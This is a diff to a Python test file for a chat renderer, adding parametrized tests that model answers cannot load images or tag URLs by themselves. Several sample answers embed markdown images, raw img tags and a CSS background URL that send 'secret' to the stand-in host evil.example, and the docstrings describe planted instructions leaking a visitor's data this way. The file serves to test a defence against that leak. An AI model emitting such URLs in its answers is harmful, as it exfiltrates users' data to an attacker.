@@ -762,11 +762,21 @@ def test_an_overlong_question_is_cut_with_a_notice_in_the_visitors_language(stor
     assert "8,000" in turn_zh.notices[0] and "问题过长" in turn_zh.notices[0]
 
 
-def test_model_answers_show_markdown_images_as_links_only():
-    """An image loads by itself: a planted instruction could put the visitor's data in its URL."""
-    turn = render.Turn("q", answer="Done ![x](https://evil.example/?q=secret) [1].", finished=True)
-    shown = render.answer_markdown(turn)
-    assert "![x]" not in shown and "[x](https://evil.example/?q=secret)" in shown
+@pytest.mark.parametrize("answer", [
+    "Done ![x](https://evil.example/?q=secret) [1].", "Done ![x][r] [1].\n\n[r]: https://evil.example/?q=secret",
+    "Done ![a [b]](https://evil.example/?q=secret) [1].", 'Done <img src="https://evil.example/?q=secret"> [1].',
+    'Done <div style="background:url(https://evil.example/?q=secret)">x</div> [1].',
+    "Done <IMG SRC=https://evil.example/?q=secret> [1]."])
+def test_model_answers_load_nothing_by_themselves(answer):
+    """An image or a tag's URL loads by itself: a planted instruction could put the visitor's data in it."""
+    shown = render.answer_markdown(render.Turn("q", answer=answer, finished=True))
+    assert "![" not in shown and "<img" not in shown.lower() and "<div" not in shown and "evil.example" in shown
+
+
+def test_code_in_model_answers_is_left_as_written():
+    answer = "Use `a < b` or:\n\n```python\nif x < 3:\n    print('<ok>')\n```\nand `![x](y)` [1]."
+    assert render.model_markdown(answer) == answer
+    assert render.model_markdown("Streaming ```html\n<img src=x>") == "Streaming ```html\n<img src=x>"
 
 
 def test_two_contracts_with_the_same_export_name_do_not_share_report_files(stores, tmp_path):
